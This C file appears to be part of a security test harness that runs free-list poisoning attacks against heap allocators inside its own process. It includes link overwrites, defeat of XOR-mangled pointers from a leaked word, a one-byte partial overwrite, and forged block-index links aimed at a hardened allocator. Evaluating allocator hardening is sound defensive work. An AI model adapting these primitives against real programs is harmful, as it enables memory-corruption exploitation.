// Free-list poisoning: a write through a dangling pointer replaces a link, and malloc returns what the attacker chose.
#include "attack.h"

#include <stdlib.h>
#include <string.h>

enum { SPRAY = 2048 };
static void *blocks[SPRAY];

static void *few[16];

/// Allocates until malloc returns what lies in the static target, or a place amid a live block. Nothing is written to what
/// comes: it may be the list's last link that makes sense.
static void collect(size_t bytes) {
    for (size_t i = 0; i < SPRAY; i++) {
        blocks[i] = take(bytes);
        if (hits_target(blocks[i], bytes) || overlaps(few, 16, bytes, blocks[i], bytes, NULL)) end_round(SUCCESS);
    }
    end_if_reached(overlap_each_other(blocks, SPRAY, bytes));
}

/// Two blocks that the victim freed, one after the other, and the pointers that it kept.
struct dangling {
    char *first, *last;
    size_t bytes;
};
static struct dangling free_two(size_t least, size_t most, bool is_elsewhere) {
    settle_in();
    const size_t bytes = some_size(least, most);
    spray(few, 16, bytes, CLEAN);
    void *freed[] = {few[5], few[11]};
    few[5] = few[11] = NULL;
    if (is_elsewhere) release_elsewhere(freed, 2);
    else release(freed, 2);
    return (struct dangling){freed[0], freed[1], bytes};
}

/// The first word of the block freed last becomes the target's address.
static void plain(void) {
    const struct dangling victim = free_two(24, 248, false);
    write_word(victim.last, (uintptr_t)static_target);
    collect(victim.bytes);
}

/// The same, after the word was read: what hides a link behind an XOR with a pad is undone by the known plain text, for
/// the block freed last leads to the one before.
static void leaked(void) {
    const struct dangling victim = free_two(24, 248, false);
    const uint64_t pad = read_word(victim.last) ^ (uintptr_t)victim.first;
    write_word(victim.last, pad ^ (uintptr_t)static_target);
    collect(victim.bytes);
}

static void leaked_elsewhere(void) {
    const struct dangling victim = free_two(24, 248, true);
    const uint64_t pad = read_word(victim.last) ^ (uintptr_t)victim.first;
    write_word(victim.last, pad ^ (uintptr_t)static_target);
    collect(victim.bytes);
}

/// A link's lowest byte alone is changed, without any leak: the next block is expected 16 bytes further.
static void partial(void) {
    const struct dangling victim = free_two(40, 248, false);
    victim.last[0] ^= 0x10;
    collect(victim.bytes);
}

/// Against links that are numbers of blocks under a pad (Bulwark's): one leaked link, and the differences of addresses, give
/// the link to any other block of the page; the attacker takes a live one of the victim's.
static void numbered(void) {
    settle_in();
    const size_t bytes = some_size(24, 248);
    void *all[64];
    spray(all, 64, bytes, CLEAN);
    const size_t stride = nearest(all, 64).distance;
    void *freed[] = {all[20], all[40]};
    char *const live = all[30];
    release_elsewhere(freed, 2);
    // Numbers count from 1, from the page's start: a slice of 64 KiB, of which the first OS page is a guard.
    const uint64_t from = (((uintptr_t)all[20] & 0xFFFF) - 4096) / stride + 1;
    const uint64_t to = (((uintptr_t)live & 0xFFFF) - 4096) / stride + 1;
    write_word(freed[1], read_word(freed[1]) ^ from ^ to);
    for (size_t i = 0; i < SPRAY; i++) {
        blocks[i] = take(bytes);
        if (blocks[i] == live) end_round(SUCCESS);
    }
}

const struct strategy freelist_strategies[] = {
    {"poison", plain},     {"poison-leak", leaked},       {"poison-leak-thread", leaked_elsewhere},
    {"poison-byte", partial}, {"poison-number", numbered}, {NULL, NULL},
};
